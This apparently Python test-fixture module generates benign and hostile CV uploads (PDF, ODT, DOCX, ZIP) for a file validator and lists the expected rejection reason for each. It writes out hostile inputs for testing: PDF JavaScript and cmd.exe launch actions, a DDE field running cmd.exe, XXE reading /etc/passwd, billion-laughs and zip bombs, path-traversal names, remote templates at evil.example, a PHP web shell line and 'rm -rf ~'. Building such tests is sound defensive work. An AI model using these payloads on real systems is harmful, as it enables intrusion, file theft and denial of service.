"""
Files that people might send as a CV, honest ones and ones made to harm, made here byte by byte: none lies in the repository.

`GOOD` and `HOSTILE` give each a name, the function that makes it and what is to be said of it.
"""

import re
import struct
import warnings
import zlib
from collections.abc import Callable
from functools import partial
from io import BytesIO, RawIOBase
from random import Random
from zipfile import ZIP_BZIP2, ZIP_DEFLATED, ZIP_STORED, ZipFile, ZipInfo

from jobs.cv_files import LARGEST, MOST_PARTS, MOST_UNPACKED
from jobs.cv_files.limits import MOST_ELEMENTS

# --- PDF -------------------------------------------------------------------------------------------------

TEXT = b"BT /F1 24 Tf 72 720 Td (Curriculum vitae) Tj ET"
# What a developer may write on a page: words that are no actions there.
WORDS = rb"BT /F1 12 Tf 72 700 Td (HTML/CSS/JS objectif /JavaScript \(/Launch\)) Tj ET"
FRENCH = "BT /F1 24 Tf 72 720 Td (Élodie Fabrègues, née à Saint-Flour) Tj ET".encode("cp1252")
PIXELS = zlib.compress(bytes(range(256)) * 12)


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, len(content), content)


def objects(*more: bytes, catalog: bytes = b"", page: bytes = b"", content: bytes = TEXT) -> list[bytes]:
    """Those of a document of one page, from number 1; `more` begin at number 6."""
    return [
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R /Resources << /Font << /F1 4 0 R >> >> %s >>"
        % page,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        stream(content),
        *more,
    ]


def pdf(*more: bytes, version: bytes = b"1.4", trailer: bytes = b"", before: bytes = b"", **options) -> bytes:
    """With a plain table of objects; `before` stands between the header and the first object."""
    written = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n" + before)
    places = []
    for number, each in enumerate(objects(*more, **options), start=1):
        places.append(len(written))
        written += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    table = len(written)
    written += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    written += b"".join(b"%010d 00000 n \n" % place for place in places)
    written += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, trailer, table)
    return bytes(written)


def pack(numbered: list[tuple[int, bytes]], entries: bytes = b"", prefix: bytes = b"") -> bytes:
    """Objects in a packed stream."""
    table, content = b"", prefix
    for number, each in numbered:
        table += b"%d %d " % (number, len(content))
        content += each + b" "
    entries = entries or b"/Filter /FlateDecode"
    return stream(zlib.compress(table + content), b"/Type /ObjStm /N %d /First %d %s" % (len(numbered), len(table), entries))


def packed_pdf(*more: bytes, packing: Callable = pack, trailer: bytes = b"", **options) -> bytes:
    """PDF 1.7 whose objects, but for the page's stream, lie in a packed stream, and so does the table of objects."""
    all_objects = objects(*more, **options)
    numbered = [(number, each) for number, each in enumerate(all_objects, start=1) if number != 5]
    holder, table = len(all_objects) + 1, len(all_objects) + 2
    written = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    places = {}
    for number, each in [(5, all_objects[4]), (holder, packing(numbered))]:
        places[number] = len(written)
        written += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    places[table] = len(written)
    indexes = {number: index for index, (number, _each) in enumerate(numbered)}
    rows = [
        struct.pack(">BIH", 2, holder, indexes[number]) if number in indexes else struct.pack(">BIH", 1, places[number], 0)
        for number in range(1, table + 1)
    ]
    entries = b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode %s" % (table + 1, trailer)
    free = struct.pack(">BIH", 0, 0, 65535)
    written += b"%d 0 obj\n%s\nendobj\n" % (table, stream(zlib.compress(free + b"".join(rows)), entries))
    return bytes(written + b"startxref\n%d\n%%%%EOF\n" % places[table])


def pdf_with_picture() -> bytes:
    picture = stream(
        PIXELS,
        b"/Type /XObject /Subtype /Image /Width 32 /Height 32 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode",
    )
    return pdf(picture, page=b"/Annots []", content=b"q 100 0 0 100 72 600 cm /Im1 Do Q")


def pdf_with_link() -> bytes:
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /URI /URI (https://exemple.fr) >> >>"
    return pdf(link, page=b"/Annots [6 0 R]")


def pdf_with_form() -> bytes:
    field = b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (nom) /V (Fabr\350gues) /Rect [0 0 99 20] >>"
    return pdf(field, page=b"/Annots [6 0 R]", catalog=b"/AcroForm << /Fields [6 0 R] >>")


def pdf_saved_twice() -> bytes:
    """As programs do that only add what has changed."""
    first = pdf()
    start = re.findall(rb"startxref\n(\d+)", first)[-1]
    added = b"5 0 obj\n%s\nendobj\n" % stream(WORDS)
    table = b"xref\n5 1\n%010d 00000 n \n" % len(first)
    end = b"trailer\n<< /Size 6 /Root 1 0 R /Prev %s >>\nstartxref\n%d\n%%%%EOF" % (start, len(first) + len(added))
    return first + added + table + end


def pdf_of(size: int) -> bytes:
    """As many bytes, by a stream of zeros."""
    filler = size
    while len(made := pdf(stream(bytes(filler)))) != size:
        filler += size - len(made)
    return made


ALERT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def pdf_hidden_in_text() -> bytes:
    """The table of objects leads into the words of the page, where an action lies."""
    made = pdf(b"<< >>", catalog=b"/OpenAction 6 0 R", content=b"(6 %\n0 obj " + ALERT + b" endobj)")
    honest, hidden = (b"%010d 00000 n" % made.index(mark) for mark in (b"6 0 obj", b"6 %\n0 obj"))
    return made.replace(honest, hidden)


def overlapping(numbered: list[tuple[int, bytes]]) -> bytes:
    """A text begins before the first object and ends behind the action: read in one go, it holds nothing but words."""
    return pack([*numbered, (9, b")")], prefix=b"(")


def pack_twice(numbered: list[tuple[int, bytes]]) -> bytes:
    """By a chain of filters that readers undo."""
    made = pack(numbered)
    content = made[made.index(b"stream\n") + 7 : made.rindex(b"\nendstream")].hex().encode() + b">"
    entries = made[2 : made.index(b"/Filter")] + b"/Filter [/ASCIIHexDecode /FlateDecode]"
    return stream(content, entries)


def pack_a_bomb(numbered: list[tuple[int, bytes]]) -> bytes:
    return pack([*numbered, (9, b" " * (MOST_UNPACKED + 1))])


def unmarked(numbered: list[tuple[int, bytes]]) -> bytes:
    return pack(numbered).replace(b"/Type /ObjStm", b"").replace(b"/First", b"/F#69rst")


# --- ZIP, ODT, DOCX ----------------------------------------------------------------------------------------

PNG_HEAD = struct.pack(">II5B", 1, 1, 8, 2, 0, 0, 0)


def png() -> bytes:
    chunks = [(b"IHDR", PNG_HEAD), (b"IDAT", zlib.compress(b"\x00\x40\x80\xc0")), (b"IEND", b"")]
    body = (struct.pack(">I", len(data)) + mark + data + struct.pack(">I", zlib.crc32(mark + data)) for mark, data in chunks)
    return b"\x89PNG\r\n\x1a\n" + b"".join(body)


class _Pipe(RawIOBase):
    """A place to write to where nothing can be corrected afterwards: sizes then follow the parts."""

    def __init__(self) -> None:
        self.written = bytearray()

    def writable(self) -> bool:
        return True

    def write(self, content) -> int:
        self.written += content
        return len(content)


def zipped(parts: list[tuple[str, bytes]], *, method: int = ZIP_DEFLATED, stored: str = "mimetype", piped: bool = False) -> bytes:
    target = _Pipe() if piped else BytesIO()
    with warnings.catch_warnings(action="ignore"), ZipFile(target, "w") as archive:
        for name, content in parts:
            part = ZipInfo("placeholder", (2026, 11, 25, 9, 0, 0))
            part.filename = name
            part.compress_type = ZIP_STORED if name == stored else method
            archive.writestr(part, content)
    return bytes(target.written) if isinstance(target, _Pipe) else target.getvalue()


def with_parts(parts: dict[str, bytes], changed: dict[str, bytes | None]) -> list[tuple[str, bytes]]:
    """A part that is None is left out."""
    return [(name, content) for name, content in {**parts, **changed}.items() if content is not None]


ODT_SPACES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0"'
)
XML = '<?xml version="1.0" encoding="UTF-8"?>\n'
ODT_TYPE = "application/vnd.oasis.opendocument.text"


def odt_content(body: str = "<text:p>Élodie Fabrègues</text:p>", *, head: str = XML, before: str = "<office:scripts/>") -> bytes:
    return (
        f'{head}<office:document-content {ODT_SPACES} office:version="1.3">{before}<office:body><office:text>{body}'
        "</office:text></office:body></office:document-content>"
    ).encode()


def manifest(inside: str = "", *, head: str = XML, media_type: str = ODT_TYPE) -> bytes:
    space = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"
    return (
        f'{head}<manifest:manifest xmlns:manifest="{space}"><manifest:file-entry manifest:full-path="/" manifest:media-type='
        f'"{media_type}"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">'
        f"{inside}</manifest:file-entry></manifest:manifest>"
    ).encode()


ODT_PARTS = {
    "mimetype": ODT_TYPE.encode(),
    "content.xml": odt_content(),
    "meta.xml": f'{XML}<office:document-meta {ODT_SPACES}><office:meta><meta:template xlink:href="file:///C:/Modeles/cv.ott"/>'
    "</office:meta></office:document-meta>".encode(),
    "Configurations2/accelerator/current.xml": b"",
    "Configurations2/images/Bitmaps/": b"",
    "META-INF/manifest.xml": manifest(),
}


def odt(changed: dict[str, bytes | None] | None = None, **options) -> bytes:
    return zipped(with_parts(ODT_PARTS, changed or {}), **options)


def odt_body(body: str, **options) -> bytes:
    return odt({"content.xml": odt_content(body, **options)})


def odt_with_mimetype_last() -> bytes:
    return zipped([*list(ODT_PARTS.items())[1:], ("mimetype", ODT_PARTS["mimetype"])])


WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def content_types(main: str = f"{WORD}.document.main+xml", *, part: str = "/word/document.xml", more: str = "") -> bytes:
    return (
        f'{XML}<Types xmlns="{PACKAGE}/content-types"><Default Extension="xml" ContentType="application/xml"/><Default '
        f'Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="png" '
        f'ContentType="image/png"/><Override PartName="{part}" ContentType="{main}"/>{more}</Types>'
    ).encode()


def relations(*each: tuple[str, str, str]) -> bytes:
    """Each by its type, target and mode."""
    inside = "".join(
        f'<Relationship Id="r{number}" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="{mode}"/>'
        for number, (kind, target, mode) in enumerate(each)
    )
    return f'{XML}<Relationships xmlns="{PACKAGE}/relationships">{inside}</Relationships>'.encode()


def document(body: str = "<w:p><w:r><w:t>Élodie Fabrègues</w:t></w:r></w:p>", *, head: str = XML) -> bytes:
    return f"{head}<w:document {W}><w:body>{body}</w:body></w:document>".encode()


DOCX_PARTS = {
    "[Content_Types].xml": content_types(),
    "_rels/.rels": relations(("officeDocument", "word/document.xml", "Internal")),
    "word/document.xml": document(),
    "word/_rels/document.xml.rels": relations(("hyperlink", "https://exemple.fr/elodie", "External")),
}


def docx(changed: dict[str, bytes | None] | None = None, **options) -> bytes:
    return zipped(with_parts(DOCX_PARTS, changed or {}), **options)


def docx_body(body: str, **options) -> bytes:
    return docx({"word/document.xml": document(body, **options)})


def docx_relations(*each: tuple[str, str, str], of: str = "document") -> bytes:
    return docx({f"word/_rels/{of}.xml.rels": relations(*each)})


def docx_of_the_web() -> bytes:
    """As Word on the web names the main part."""
    return docx(
        {
            "[Content_Types].xml": content_types(part="/word/document2.xml"),
            "_rels/.rels": relations(("officeDocument", "word/document2.xml", "Internal")),
            "word/document.xml": None,
            "word/document2.xml": document(),
        }
    )


def docx_from_a_template() -> bytes:
    return docx_relations(("attachedTemplate", r"file:///C:\Users\Elodie\Templates\CV.dotx", "External"), of="settings")


def workbook() -> bytes:
    main = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    return docx({"[Content_Types].xml": content_types(main, part="/xl/workbook.xml"), "xl/workbook.xml": b"<workbook/>"})


def docm() -> bytes:
    main = content_types("application/vnd.ms-word.document.macroEnabled.main+xml")
    return docx({"[Content_Types].xml": main, "word/vbaProject.bin": OLE})


def flagged(content: bytes, name: str, flags: int) -> bytes:
    """With the flags set in both tables, as a program for archives would."""
    made, encoded = bytearray(content), name.encode()
    for mark, at_flags, at_name in [(b"PK\x03\x04", 6, 30), (b"PK\x01\x02", 8, 46)]:
        [start] = [m.start() for m in re.finditer(re.escape(mark), content) if content.startswith(encoded, m.start() + at_name)]
        made[start + at_flags] |= flags
    return bytes(made)


def lying(size: int, said: int) -> bytes:
    """A part of zeros that says of itself that it is small."""
    made = docx({"word/media/image1.bmp": bytes(size)})
    return made.replace(struct.pack("<I", size), struct.pack("<I", said))


def many_bombs() -> bytes:
    """Each part is allowed, all together are not."""
    pattern = Random(2026).randbytes(30_000) * 70
    return docx({f"word/media/image{number}.bmp": pattern for number in range(MOST_UNPACKED // len(pattern) + 1)})


def nested() -> bytes:
    """Archives in archives, as 42.zip."""
    inner = zipped([("0", bytes(4 * 1024 * 1024))])
    for _level in range(3):
        inner = zipped([(f"lib {number}.zip", inner) for number in range(16)])
    return inner


def overlaid() -> bytes:
    """Two entries of the table lead to the same bytes."""
    made = docx({"word/media/image1.png": png(), "word/media/image2.png": png()})
    second = made.index(b"PK\x03\x04", made.index(b"word/media/image2.png") - 40)
    first = made.index(b"PK\x03\x04", made.index(b"word/media/image1.png") - 40)
    at = made.rindex(b"word/media/image2.png") - 4
    assert struct.unpack_from("<I", made, at) == (second,)
    return made[:at] + struct.pack("<I", first) + made[at + 4 :]


def between() -> bytes:
    """Bytes that belong to no part, before the table of contents."""
    made = docx()
    table = struct.unpack_from("<I", made, len(made) - 6)[0]
    return made[:table] + b"<script>" + made[table:-6] + struct.pack("<I", table + 8) + made[-2:]


LAUGHS = f"{XML}<!DOCTYPE lolz [<!ENTITY a 'ha'>" + "".join(
    f"<!ENTITY {name} '{f'&{of};' * 10}'>" for of, name in zip("abcdefgh", "bcdefghi", strict=True)
)
XXE = f'{XML}<!DOCTYPE w [<!ENTITY file SYSTEM "file:///etc/passwd">]>'


# --- what is neither ------------------------------------------------------------------------------------------

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
HTML = b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
PROGRAM = b"MZ\x90\x00" + bytes(60) + b"This program cannot be run in DOS mode." + b"PE\x00\x00" + bytes(200)
JAR = zipped([("META-INF/MANIFEST.MF", b"Main-Class: Evil\n"), ("Evil.class", b"\xca\xfe\xba\xbe")])


def of(content: bytes) -> Callable[[], bytes]:
    return lambda: content


GOOD: dict[str, tuple[Callable[[], bytes], str]] = {
    "PDF 1.4 with a plain table": (pdf, "PDF"),
    "PDF 1.7 with packed objects": (packed_pdf, "PDF"),
    "PDF 2.0": (partial(pdf, version=b"2.0"), "PDF"),
    "PDF with French accents": (partial(pdf, content=FRENCH), "PDF"),
    "PDF with a picture": (pdf_with_picture, "PDF"),
    "PDF with a link": (pdf_with_link, "PDF"),
    "PDF with a form": (pdf_with_form, "PDF"),
    "PDF of a developer": (partial(pdf, b"<< /Title (D\\351veloppeur \\(HTML/CSS/JS\\)) >>", content=WORDS), "PDF"),
    "PDF of a developer, packed": (partial(packed_pdf, b"<< /Title (HTML/CSS /JS) >>", content=WORDS), "PDF"),
    "PDF that opens at a place": (partial(pdf, catalog=b"/OpenAction [3 0 R /FitH 842]"), "PDF"),
    "PDF that opens at a place named elsewhere": (
        partial(packed_pdf, b"<< /S /GoTo /D [3 0 R /Fit] >>", catalog=b"/OpenAction 6 0 R"),
        "PDF",
    ),
    "PDF that opens with the print dialogue": (partial(pdf, catalog=b"/OpenAction << /S /Named /N /Print >>"), "PDF"),
    "PDF saved twice": (pdf_saved_twice, "PDF"),
    "PDF with zeros at its end": (lambda: pdf() + bytes(512), "PDF"),
    "PDF of exactly 5 MB": (partial(pdf_of, LARGEST), "PDF"),
    "ODT": (odt, "ODT"),
    "ODT with a picture": (partial(odt, {"Pictures/1000.png": png()}), "ODT"),
    "ODT with a link": (partial(odt_body, '<text:p><text:a xlink:href="https://exemple.fr">ici</text:a></text:p>'), "ODT"),
    "ODT of the OpenOffice of 2008": (
        partial(
            odt,
            {
                "META-INF/manifest.xml": manifest(
                    head=XML + '<!DOCTYPE manifest:manifest PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd">'
                )
            },
        ),
        "ODT",
    ),
    "ODT in UTF-16": (
        lambda: odt({"content.xml": odt_content(head='<?xml version="1.0" encoding="UTF-16"?>').decode().encode("utf-16")}),
        "ODT",
    ),
    "DOCX with a link": (docx, "DOCX"),
    "DOCX with a picture": (partial(docx, {"word/media/image1.png": png()}), "DOCX"),
    "DOCX written in one go": (partial(docx, piped=True), "DOCX"),
    "DOCX of Word on the web": (docx_of_the_web, "DOCX"),
    "DOCX made from a template on the own disk": (docx_from_a_template, "DOCX"),
    "DOCX with the number of its pages": (
        partial(
            docx_body, '<w:fldSimple w:instr=" PAGE "/><w:r><w:instrText> HYPERLINK "https://exemple.fr/dde"</w:instrText></w:r>'
        ),
        "DOCX",
    ),
    "DOCX not packed": (partial(docx, method=ZIP_STORED), "DOCX"),
}

HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "nothing": (of(b""), "empty"),
    "one byte": (of(b"%"), "not_a_document"),
    "5 MB and a byte": (partial(pdf_of, LARGEST + 1), "too_large"),
    "HTML": (of(HTML), "not_a_document"),
    "HTML in UTF-16": (of(HTML.decode().encode("utf-16")), "not_a_document"),
    "SVG": (of(SVG), "not_a_document"),
    "SVG with a header of PDF in a comment": (of(b"<!--%PDF-1.4-->" + SVG), "not_a_document"),
    "JavaScript": (of(b"alert(document.cookie)"), "not_a_document"),
    "a program": (of(PROGRAM), "not_a_document"),
    "a script": (of(b"#!/bin/sh\nrm -rf ~\n"), "not_a_document"),
    "PHP": (of(b"<?php system($_GET['c']);"), "not_a_document"),
    "PNG": (png, "not_a_document"),
    "JPEG": (of(JPEG), "not_a_document"),
    "GIF and JAR": (of(GIF + JAR), "not_a_document"),
    "RTF": (of(rb"{\rtf1\ansi Curriculum vitae}"), "not_a_document"),
    "DOC of old": (of(OLE), "not_a_document"),
    "plain text": (of("Élodie Fabrègues".encode()), "not_a_document"),
    # PDF: whole, and nothing else
    "PDF that is only a header": (of(b"%PDF-1.4"), "broken"),
    "PDF without a version": (of(b"%PDF-"), "not_a_document"),
    "PDF that is a header and an end": (of(b"%PDF-1.4\nstartxref\n0\n%%EOF"), "broken"),
    "PDF cut off": (lambda: pdf()[:400], "broken"),
    "PDF cut off before its end": (lambda: pdf()[:-6], "broken"),
    "PDF behind HTML": (lambda: HTML + pdf(), "not_a_document"),
    "PDF behind a line": (lambda: b"\n" + pdf(), "not_a_document"),
    "PDF behind a program": (lambda: PROGRAM + pdf(), "not_a_document"),
    "PDF before HTML": (lambda: pdf() + HTML, "broken"),
    "PDF and ZIP": (lambda: pdf() + JAR, "broken"),
    "PDF in the comment of a ZIP in a PDF": (partial(pdf, stream(JAR[:-2] + b"\x00\x02")), "broken"),
    "PDF without pages": (lambda: pdf().replace(b"/Pages", b"/Seiten"), "broken"),
    # PDF: actions
    "PDF with JavaScript": (partial(pdf, ALERT, catalog=b"/OpenAction 6 0 R"), "active"),
    "PDF with JavaScript by name": (
        partial(pdf, ALERT, catalog=b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >>"),
        "active",
    ),
    "PDF with JavaScript under an escaped name": (partial(pdf, b"<< /S /J#61vaScr#69pt /J#53 (1) >>"), "active"),
    "PDF with JavaScript in packed objects": (partial(packed_pdf, ALERT, catalog=b"/OpenAction 6 0 R"), "active"),
    "PDF with JavaScript in a packed stream that does not say so": (partial(packed_pdf, ALERT, packing=unmarked), "active"),
    "PDF with JavaScript in a packed text": (partial(packed_pdf, ALERT, packing=overlapping), "broken"),
    "PDF with JavaScript packed twice": (partial(packed_pdf, ALERT, packing=pack_twice), "broken"),
    "PDF with JavaScript behind an end": (partial(pdf, b"<< /A endobj /S /JavaScript /JS (1) >>"), "active"),
    "PDF with JavaScript behind a comment": (partial(pdf, b"<< /A %>> stream\n /S %(\n /JavaScript /JS (1) >>"), "active"),
    "PDF with JavaScript in the words of its page": (pdf_hidden_in_text, "active"),
    "PDF with JavaScript in a comment between objects": (partial(pdf, before=b"%9 0 obj " + ALERT + b"\n"), "active"),
    "PDF that starts a program": (partial(pdf, b"<< /S /Launch /F (cmd.exe) >>", catalog=b"/OpenAction 6 0 R"), "active"),
    "PDF that starts a program when a page opens": (
        partial(pdf, page=b"/AA << /O << /S /Named /N /NextPage >> >>"),
        "active",
    ),
    "PDF that fetches another": (partial(pdf, rb"<< /S /GoToE /F (\\\\evil\\share) /D [0 /Fit] >>"), "active"),
    "PDF that opens an address": (partial(pdf, catalog=b"/OpenAction << /S /URI /URI (https://evil.example) >>"), "active"),
    "PDF that opens an address named elsewhere": (
        partial(packed_pdf, b"<< /S /URI /URI (https://evil.example) >>", catalog=b"/OpenAction 6 0 R"),
        "active",
    ),
    "PDF that opens nothing": (partial(pdf, catalog=b"/OpenAction 99 0 R"), "broken"),
    "PDF that sends its form": (partial(pdf, b"<< /S /SubmitForm /F (https://evil.example) >>"), "active"),
    "PDF with a file inside": (
        partial(pdf, b"<< /EF << /F 7 0 R >> >>", stream(PROGRAM, b"/Type /EmbeddedFile"), catalog=b"/Names << >>"),
        "active",
    ),
    "PDF with a film": (partial(pdf, b"<< /Type /Annot /Subtype /RichMedia >>"), "active"),
    "PDF with an XFA form": (partial(pdf, catalog=b"/AcroForm << /XFA 6 0 R >>"), "active"),
    "PDF with a password": (partial(pdf, b"<< /Filter /Standard /V 2 /R 3 >>", trailer=b"/Encrypt 6 0 R"), "encrypted"),
    "PDF with a password, packed": (
        partial(packed_pdf, b"<< /Filter /Standard /V 4 >>", trailer=b"/Encrypt 6 0 R"),
        "encrypted",
    ),
    "PDF with a bomb in packed objects": (partial(packed_pdf, packing=pack_a_bomb), "bomb"),
    "PDF of endless objects": (lambda: pdf(before=b"1 0 obj(\n" * 400_000), "bomb"),
    # archives
    "ZIP": (of(zipped([("cv.txt", b"cv")])), "not_a_document"),
    "ZIP of ZIPs": (nested, "not_a_document"),
    "ZIP and PDF": (lambda: docx() + pdf(), "broken"),
    "ZIP with bytes behind": (lambda: docx() + b"\x00", "broken"),
    "ZIP with a comment": (lambda: docx()[:-2] + b"\x04\x00evil", "broken"),
    "ZIP behind a script": (lambda: b"#!/bin/sh\n" + docx(), "not_a_document"),
    "ZIP with bytes between its parts": (between, "broken"),
    "ZIP cut off": (lambda: docx()[:-30], "broken"),
    "ZIP with two parts in the same place": (overlaid, "broken"),
    "ZIP that climbs": (partial(docx, {"word/../../../evil.sh": b"x"}), "broken"),
    "ZIP with an absolute name": (partial(docx, {"/etc/cron.d/evil": b"x"}), "broken"),
    "ZIP with a backslash": (partial(docx, {"word\\evil.xml": b"<a/>"}), "broken"),
    "ZIP with a disk": (partial(docx, {"C:evil.xml": b"<a/>"}), "broken"),
    "ZIP with a control character": (partial(docx, {"word/a\x00.xml": b"<a/>"}), "broken"),
    "ZIP with a part twice": (lambda: zipped([*DOCX_PARTS.items(), ("word/document.xml", document())]), "broken"),
    "ZIP with a part twice but for its case": (partial(docx, {"Word/Document.xml": document()}), "broken"),
    "ZIP with a password": (lambda: flagged(docx(), "word/document.xml", 1), "encrypted"),
    "ZIP packed in a rare way": (partial(docx, method=ZIP_BZIP2), "broken"),
    "ZIP with too many parts": (partial(docx, {f"word/{number}.xml": b"" for number in range(MOST_PARTS)}), "bomb"),
    "ZIP with a damaged part": (lambda: docx(method=ZIP_STORED).replace("Élodie".encode(), b"Melodie"), "broken"),
    "bomb": (partial(docx, {"word/media/image1.bmp": bytes(MOST_UNPACKED + 1)}), "bomb"),
    "bomb that lies": (partial(lying, MOST_UNPACKED + 1, 10), "bomb"),
    "lie about a size": (partial(lying, 100_000, 10), "broken"),
    "bomb in small parts": (many_bombs, "bomb"),
    "bomb of elements": (lambda: docx_body("".join(f'<w:p w:id="{number * 7919}"/>' for number in range(MOST_ELEMENTS))), "bomb"),
    # ODT
    "ODT with Basic": (partial(odt, {"Basic/Standard/Module1.xml": b"<a/>"}), "active"),
    "ODT with Python": (partial(odt, {"Scripts/python/evil.py": b"x"}), "active"),
    "ODT that calls a macro": (
        partial(
            odt_body,
            "",
            before='<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" '
            'xlink:href="vnd.sun.star.script:LibreLogo|LibreLogo.py$run?language=Python&amp;location=share"/>'
            "</office:event-listeners></office:scripts>",
        ),
        "active",
    ),
    "ODT with a link to a macro": (partial(odt_body, '<text:a xlink:href="vnd.sun.star.script:evil"/>'), "active"),
    "ODT with a picture of the web": (partial(odt_body, '<draw:image xlink:href="https://evil.example/a.png"/>'), "active"),
    "ODT with a section of another file": (partial(odt_body, '<text:section-source xlink:href="//evil/share"/>'), "active"),
    "ODT with an old document": (partial(odt, {"ObjectReplacements/Object 1": OLE}), "active"),
    "ODT with entities": (partial(odt_body, "<text:p>&file;</text:p>", head=XXE), "active"),
    "ODT with a password": (
        partial(odt, {"META-INF/manifest.xml": manifest("<manifest:encryption-data/>"), "content.xml": bytes(64)}),
        "encrypted",
    ),
    "ODT whose type is packed": (partial(odt, stored=""), "broken"),
    "ODT whose type comes last": (odt_with_mimetype_last, "broken"),
    "ODT without content": (partial(odt, {"content.xml": None}), "broken"),
    "ODT whose content is cut off": (partial(odt, {"content.xml": odt_content()[:-9]}), "broken"),
    "ODT in UTF-7": (partial(odt, {"content.xml": odt_content(head='<?xml version="1.0" encoding="UTF-7"?>')}), "broken"),
    "ODT and DOCX": (partial(odt, DOCX_PARTS), "broken"),
    "ODS": (partial(odt, {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"}), "not_a_document"),
    "EPUB": (partial(odt, {"mimetype": b"application/epub+zip"}), "not_a_document"),
    # DOCX
    "DOCM": (docm, "active"),
    "DOCX with macros": (partial(docx, {"word/vbaProject.bin": b"x"}), "active"),
    "DOCX with ActiveX": (partial(docx, {"word/activeX/activeX1.xml": b"<a/>"}), "active"),
    "DOCX with buttons": (partial(docx, {"customUI/customUI.xml": b"<a/>"}), "active"),
    "DOCX with a workbook": (partial(docx, {"word/embeddings/sheet.xlsx": workbook()}), "active"),
    "DOCX with a program named as a picture": (partial(docx, {"word/media/image1.png": PROGRAM}), "active"),
    "DOCX with an archive named as a picture": (partial(docx, {"word/media/image1.png": JAR}), "active"),
    "DOCX with HTML": (partial(docx_relations, ("aFChunk", "a.html", "Internal")), "active"),
    "DOCX with a template of the web": (
        partial(docx_relations, ("attachedTemplate", "https://evil.example/a.dotm", "External"), of="settings"),
        "active",
    ),
    "DOCX with a template in the network": (
        partial(docx_relations, ("attachedTemplate", r"file:///\\evil\a.dotm", "External"), of="settings"),
        "active",
    ),
    "DOCX with a template in the network, by slashes": (
        partial(docx_relations, ("attachedTemplate", "file:////evil/a.dotm", "External"), of="settings"),
        "active",
    ),
    "DOCX with a picture of the web": (partial(docx_relations, ("image", "https://evil.example/a.png", "External")), "active"),
    "DOCX with an object of the web": (
        partial(docx_relations, ("oleObject", "mhtml:https://evil.example!x-usc:a.html", "External")),
        "active",
    ),
    "DOCX with DDE": (
        partial(
            docx_body,
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO '
            'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r>',
        ),
        "active",
    ),
    "DOCX with DDE in a simple field": (partial(docx_body, '<w:fldSimple w:instr="DDEAUTO cmd"/>'), "active"),
    "DOCX with entities from outside": (partial(docx_body, "&file;", head=XXE), "active"),
    "DOCX with a billion laughs": (partial(docx_body, "&i;", head=LAUGHS + "]>"), "active"),
    "DOCX with a grammar of the web": (
        partial(docx_body, "", head=f'{XML}<!DOCTYPE w SYSTEM "https://evil.example/w.dtd">'),
        "active",
    ),
    "DOCX with entities under another name": (partial(docx, {"word/evil.bin": f"{XXE}<w>&file;</w>".encode()}), "active"),
    "DOCX that is not well-formed": (partial(docx, {"word/document.xml": document()[:-4]}), "broken"),
    "DOCX without its document": (partial(docx, {"word/document.xml": None}), "broken"),
    "DOCX with a password": (of(OLE + "EncryptedPackage".encode("utf-16-le")), "encrypted"),
    "DOTX": (partial(docx, {"[Content_Types].xml": content_types(f"{WORD}.template.main+xml")}), "not_a_document"),
    "XLSX": (workbook, "not_a_document"),
}

# What the browser says that a file is called.
BAD_NAMES = [
    "cv.pdf.exe",
    "cv.php.pdf",
    "cv.html",
    "cv.svg",
    ".htaccess",
    "../../../etc/passwd",
    "..\\..\\windows\\system32\\cv.pdf",
    "/absolute/cv.pdf",
    "cv\x00.pdf",
    "cv\r\nContent-Type: text/html\r\n\r\n.pdf",
